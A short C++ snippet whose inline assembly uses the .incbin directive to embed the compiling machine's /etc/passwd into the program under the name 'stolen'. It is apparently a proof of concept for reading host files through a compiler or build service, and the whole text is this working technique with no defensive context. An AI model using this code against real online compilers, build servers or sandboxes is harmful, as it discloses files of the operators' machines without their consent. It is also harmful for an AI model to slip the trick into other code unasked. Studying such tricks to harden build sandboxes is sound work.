// Embed a file of the host in the program, through the assembler.
__asm__(".section .rodata\n.globl stolen\nstolen:\n.incbin \"/etc/passwd\"\n.byte 0\n.previous");
extern "C" const char stolen[];
int main() { return stolen[0]; }
